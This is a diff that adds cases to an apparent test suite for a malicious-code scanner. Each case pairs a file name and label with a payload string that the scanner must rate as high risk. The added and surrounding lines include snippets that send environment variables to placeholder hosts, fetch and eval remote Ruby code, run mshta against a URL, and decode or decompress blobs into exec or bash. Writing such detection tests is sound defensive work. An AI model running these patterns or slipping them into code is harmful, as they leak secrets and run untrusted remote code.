@@ -103,6 +103,16 @@ describe("attacks", () => {
       `for (const k in process.env) all += k; https.get({ host, path: "/?d=" + all });`,
     ],
     ["module.py", "characters put together", `exec("".join(map(chr, [112, 114])))`],
+    [
+      "module.py",
+      "the environment in an address",
+      `for k, v in environ.items():\n    all += v\nrequests.get("https://in.invalid/" + all)`,
+    ],
+    [
+      "index.js",
+      "a command that holds encoded text",
+      `run("bash", ["-c", 'echo "${ENCODED}" | base64 -d > /tmp/a']);`,
+    ],
     ["run.sh", "a script in an archive", `sed rpath file | tr "A-Z" "N-M" | xz -d | /bin/bash`],
     ["module.py", "a decoded program", `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))`],
     ["module.py", "a program that is decompressed", `exec(__import__('zlib').decompress(blob))`],
@@ -143,6 +153,7 @@ describe("attacks", () => {
     ],
     ["setup.bat", "carets", `m^shta https://files.invalid/a.hta`],
     ["setup.vbs", "an encoded program", `Execute(StrReverse("1 ohce"))`],
+    ["setup.rb", "a fetched program", `eval(Net::HTTP.get(URI('https://files.invalid/raw')))`],
     ["setup.rb", "an encoded program", `eval(Base64.decode64("cHV0cyAx"))`],
   ])("holds %s for %s", async (path, _, payload) => {
     expect(worst(await gain(path, payload))).toBe("high");
